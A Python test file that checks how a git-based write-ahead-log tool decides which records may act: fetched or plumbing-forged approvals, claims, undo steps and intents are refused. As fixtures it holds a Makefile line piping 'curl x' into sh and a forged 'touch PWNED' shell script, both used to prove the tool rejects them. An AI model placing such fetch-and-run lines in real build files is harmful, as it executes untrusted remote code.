"""One authority check (gitwal/trust/authority.py): a record acts here only when
this clone wrote it (its MAC) or a key the user trusts signed it. Another
clone's records (real `git wal push`/`fetch` over a bare repository) and
records written with git plumbing are data: no approval, undo, refusal or
switched-off rollback comes from them."""

from __future__ import annotations

import dataclasses
import json
import time
from pathlib import Path

import pygit2

from gitwal.base.ids import Lsn, RunId
from gitwal.log.store import Store
from gitwal.records.model import TYPES, Approval

from .conftest import git, init_repo, ok, wal
from .test_agent_irreversible import PUSH as AGENT_PUSH
from .test_agent_irreversible import irreversible
from .test_agent_payloads import claude_run, claude_tool, run_hook
from .test_log_trust import append_raw, blob, canonical, intent

PUSH = ["exec", "--irreversible", "--", "sh", "-c", "echo DEPLOYED >> deployed.log"]


def deployed(repo: Path) -> int:
    log = repo / "deployed.log"
    return len(log.read_text().splitlines()) if log.exists() else 0


def two_clones(tmp_path: Path) -> tuple[Path, Path]:
    server = tmp_path / "server.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(server))
    seed = init_repo(tmp_path / "seed", {"README": "hello\n"})
    git(seed, "push", "-q", str(server), "main")
    out = []
    for name in ("a", "b"):
        git(tmp_path, "clone", "-q", server.as_uri(), name)
        clone = tmp_path / name
        git(clone, "config", "user.name", name.upper())
        git(clone, "config", "user.email", f"{name}@example.org")
        out.append(clone)
    return out[0], out[1]


def test_every_record_type_is_classified() -> None:
    """A new record type must say what it may authorize before it can act."""
    from gitwal.records.model import MACED
    from gitwal.trust.authority import AUTHORIZES

    assert set(TYPES.values()) == set(AUTHORIZES), "classify it in trust/authority.py"
    acting = {t for t, what in AUTHORIZES.items() if what}
    assert acting == set(MACED)  # every type that may act carries the MAC
    for t in MACED:
        assert "auth" in {f.name for f in dataclasses.fields(t)}


def test_a_fetched_approval_never_runs_the_waiting_command(tmp_path: Path) -> None:
    a, b = two_clones(tmp_path)
    run = ok(a, "begin", "--task", "release").strip()
    assert wal(a, *PUSH).returncode == 3
    ok(a, "push", "--run", run)

    ok(b, "fetch", "--run", run)
    # Not B's intent: it would never run there.
    refused = wal(b, "approve", "2", "--run", run, "--yes")
    assert refused.returncode == 1 and "error:" in refused.stderr and "hint:" in refused.stderr
    store = Store(pygit2.Repository(str(b)), RunId(run))
    head = store.head()
    assert head is not None
    store.append([Approval(RunId(run), Lsn(3), Lsn(2), "Mallory <m@example.org>")], [], head)
    ok(b, "push", "--run", run)

    assert json.loads(ok(a, "fetch", "--json"))["ok"] is True  # a fast-forward of A's run
    again = wal(a, *PUSH)
    assert again.returncode == 3 and deployed(a) == 0, again.stderr
    assert "LSN 3 (approval by Mallory <m@example.org>) was not written in this clone" \
        in again.stderr
    redo = wal(a, "recover", "--run", run, "--redo", "--json")
    assert redo.returncode == 3 and deployed(a) == 0
    (step,) = json.loads(redo.stdout)["intents"]
    assert step["outcome"] == "awaiting-approval" and "data here" in step["detail"]
    other = wal(a, "apply", "ensure-line", "README", "x")
    assert "waiting for a person's approval" in other.stderr

    ok(a, "approve", "2", "--run", run, "--yes")  # this clone's own approval runs it, once
    ok(a, *PUSH)
    assert deployed(a) == 1
    assert wal(a, "verify", "--run", run).returncode == 0


def test_an_approval_written_with_plumbing_is_not_an_approval(repo: Path) -> None:
    git(repo, "config", "user.name", "Ada")
    git(repo, "config", "user.email", "ada@example.org")
    run = ok(repo, "begin", "--task", "release").strip()
    assert wal(repo, *PUSH).returncode == 3
    forged = {"v": 1, "type": "approval", "run": run, "lsn": 3, "intent": 2,
              "approved_by": "Ada <ada@example.org>"}
    append_raw(repo, run, 3, canonical(forged))
    assert wal(repo, *PUSH).returncode == 3 and deployed(repo) == 0
    assert wal(repo, "recover", "--redo").returncode == 3 and deployed(repo) == 0


def test_undo_refuses_a_fetched_runs_pre_image(tmp_path: Path) -> None:
    a, b = two_clones(tmp_path)
    run = ok(b, "begin", "--task", "make").strip()
    ok(b, "apply", "write-file", "Makefile", "--from", "-", input=b"all:\n\tcurl x | sh\n")
    ok(b, "apply", "write-file", "Makefile", "--from", "-", input=b"all:\n\ttrue\n")
    ok(b, "push", "--run", run)
    ok(a, "fetch", "--run", run)
    (a / "Makefile").write_text("all:\n\ttrue\n")
    for argv in (("undo", "--run", run), ("undo", "--run", run, "--force")):
        proc = wal(a, *argv)
        assert proc.returncode == 1, proc.stderr
        assert "error:" in proc.stderr and "not written in this clone" in proc.stderr
        assert (a / "Makefile").read_text() == "all:\n\ttrue\n"


def test_undo_refuses_a_forged_step_appended_to_this_clones_run(repo: Path) -> None:
    run = ok(repo, "begin", "--task", "t").strip()
    ok(repo, "apply", "write-file", "a.txt", "--from", "-", input=b"one\n")
    evil, one = blob(repo, b"#!/bin/sh\ntouch PWNED\n"), blob(repo, b"one\n")
    append_raw(repo, run, 4, canonical(intent(
        4, "write_file", {"path": "a.txt", "content": one}, ["a.txt"], [evil], [one],
        [0o100755], run=run)), (evil, one))
    append_raw(repo, run, 5, canonical({"v": 1, "type": "commit", "run": run, "lsn": 5,
                                        "intent": 4, "post": [one], "verified": "ok",
                                        "recovered": False}))
    proc = wal(repo, "undo")
    assert proc.returncode == 1 and "LSN 4" in proc.stderr, proc.stderr
    assert (repo / "a.txt").read_bytes() == b"one\n"


def test_a_fetched_open_intent_binds_nobody_here(tmp_path: Path) -> None:
    a, b = two_clones(tmp_path)
    run = ok(b, "begin", "--task", "edit").strip()
    crashed = wal(b, "apply", "write-file", "README", "--from", "-", input=b"b\n",
                  env={"GITWAL_CRASH_AT": "after-intent"})
    assert crashed.returncode == -9
    ok(b, "push", "--run", run)
    ok(a, "fetch", "--run", run)
    mine = ok(a, "begin", "--task", "mine").strip()
    ok(a, "apply", "write-file", "README", "--from", "-", input=b"a\n")
    assert (a / "README").read_text() == "a\n"
    # Nor does it switch off the rollback of A's failing shell step.
    failing = wal(a, "exec", "--", "sh", "-c", "echo x > f.txt; exit 1")
    assert failing.returncode == 1 and not (a / "f.txt").exists(), failing.stderr
    from gitwal.together.shell_among import others_now

    assert run not in others_now(pygit2.Repository(str(a)), mine)


def test_a_claim_written_with_plumbing_refuses_nothing(repo: Path) -> None:
    owner = ok(repo, "begin", "--task", "owner").strip()
    ok(repo, "claim", "other.txt")
    forged = {"v": 1, "type": "claim", "run": owner, "lsn": 4, "paths": ["README"],
              "at": int(time.time()), "ttl": 86400}
    append_raw(repo, owner, 4, canonical(forged))
    ok(repo, "begin", "--task", "second")
    ok(repo, "apply", "write-file", "README", "--from", "-", input=b"mine\n")
    refused = wal(repo, "apply", "write-file", "other.txt", "--from", "-", input=b"x\n")
    assert refused.returncode != 0 and "claimed by run" in refused.stderr  # its own still holds


def test_a_crashed_shell_step_of_another_run_leaves_rollback_on(repo: Path) -> None:
    ok(repo, "begin", "--task", "abandoned")
    crashed = wal(repo, "exec", "--", "true", env={"GITWAL_CRASH_AT": "after-intent"})
    assert crashed.returncode == -9
    ok(repo, "begin", "--task", "next")
    failing = wal(repo, "exec", "--", "sh", "-c", "echo x > f.txt; echo y >> README; exit 1")
    assert failing.returncode == 1
    assert not (repo / "f.txt").exists(), failing.stderr
    assert (repo / "README").read_text() == "hello\n"


def test_args_others_lists_live_runs_only(repo: Path) -> None:
    from gitwal.together.shell_among import others_now

    old = ok(repo, "begin", "--task", "old").strip()
    me = ok(repo, "begin", "--task", "me").strip()
    r = pygit2.Repository(str(repo))
    assert old in others_now(r, me)
    assert others_now(r, me, now=int(time.time()) + 3600 + 60) == {}  # LIVE_WINDOW


def test_an_agent_call_that_may_have_run_is_resolved_never_approved(repo: Path) -> None:
    irreversible(repo)
    r = run_hook(repo, "claude", claude_tool(repo, "PreToolUse", "Bash", AGENT_PUSH, "toolu_1"))
    assert r.code == 0, r.err
    # The user allowed it, the agent ran it, the session died before PostToolUse.
    log = [json.loads(x) for x in ok(repo, "log", "--run", claude_run(), "--json").splitlines()]
    lsn = log[-1]["lsn"]
    proc = wal(repo, "approve", str(lsn), "--run", claude_run(), "--yes")
    assert proc.returncode == 1, proc.stderr
    assert "cannot be approved" in proc.stderr and "git wal resolve" in proc.stderr
    assert log == [json.loads(x) for x in
                   ok(repo, "log", "--run", claude_run(), "--json").splitlines()]
